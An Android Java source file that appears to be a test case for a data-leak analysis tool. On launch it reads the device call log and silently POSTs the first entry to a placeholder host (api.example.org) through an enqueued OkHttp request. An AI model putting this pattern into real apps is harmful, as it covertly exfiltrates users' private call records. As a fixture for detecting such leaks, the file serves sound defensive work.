// A POST by OkHttp, enqueued: its dispatcher's thread sends it.
package cases.sink_okhttp_enqueue;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.CallLog;
import android.util.Log;
import java.io.IOException;
import okhttp3.Call;
import okhttp3.Callback;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;
import okhttp3.Response;

public final class Main extends Activity implements Callback {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        RequestBody body = RequestBody.create(MediaType.parse("text/plain"), rows.getString(0));
        Request request = new Request.Builder().url("https://api.example.org/v1/calls").post(body).build();
        new OkHttpClient().newCall(request).enqueue(this);
    }

    @Override
    public void onFailure(Call call, IOException problem) {
        Log.w("upload", "later");
    }

    @Override
    public void onResponse(Call call, Response response) {
        Log.d("upload", "done");
    }
}
